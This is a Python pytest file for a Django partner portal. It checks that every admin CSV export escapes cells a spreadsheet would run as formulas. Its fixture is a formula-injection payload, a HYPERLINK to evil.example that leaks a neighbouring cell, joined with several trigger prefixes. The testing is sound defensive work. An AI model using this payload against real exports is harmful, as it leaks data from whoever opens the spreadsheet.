"""Exports (issue 10, rule 6): every CSV the portal writes neutralizes a cell that a
spreadsheet would run as a formula, through its real admin view, whatever the library does."""

import csv
import io

import pytest
from django.urls import reverse

from cate_portal.csv_export import FORMULA_TRIGGERS

from ...factories import AgreementFactory, OrganizationFactory, adopted_version

pytestmark = pytest.mark.django_db

# Text a partner or an applicant can type, that a spreadsheet would run once opened.
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&B2,"Open")'
PREFIXES = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage-return": "\r",
}


def _table(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def organization_export(client, settings, *, library_escapes: bool):
    settings.IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT = library_escapes
    url = reverse("admin:partners_organization_export")
    return _table(client.post(url, {"format": "0", "resource": "0"}))


def compliance_export(client, settings):
    return _table(client.get(reverse("admin:partners_values_compliance_csv")))


EXPORTS = {
    # The admin's export through django-import-export, with its own escaping on and off.
    "organizations-library-escaping-on": lambda c, s: organization_export(
        c, s, library_escapes=True
    ),
    "organizations-library-escaping-off": lambda c, s: organization_export(
        c, s, library_escapes=False
    ),
    "compliance-report": compliance_export,
}


@pytest.mark.parametrize("export", EXPORTS)
@pytest.mark.parametrize("prefix", PREFIXES.values(), ids=PREFIXES.keys())
def test_a_cell_a_spreadsheet_would_run_is_neutralized_in_every_export(
    director_client, settings, export, prefix
):
    text = prefix + PAYLOAD
    adopted_version()
    organization = OrganizationFactory(name=text, description=text)
    AgreementFactory(organization=organization, signer_name=text)

    table = EXPORTS[export](director_client, settings)

    cells = [cell for row in table for cell in row]
    assert f"'{text}" in cells  # shown as the text it is, with nothing taken away
    assert text not in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


@pytest.mark.parametrize("export", EXPORTS)
def test_ordinary_cells_are_left_as_they_are(director_client, settings, export):
    adopted_version()
    organization = OrganizationFactory(name="Safe Harbor Alliance", description="Shelter (24/7)")
    AgreementFactory(organization=organization, signer_name="Renee Caldwell")

    table = EXPORTS[export](director_client, settings)

    cells = [cell for row in table for cell in row]
    assert "Safe Harbor Alliance" in cells
    assert not [cell for cell in cells if cell.startswith("'")]
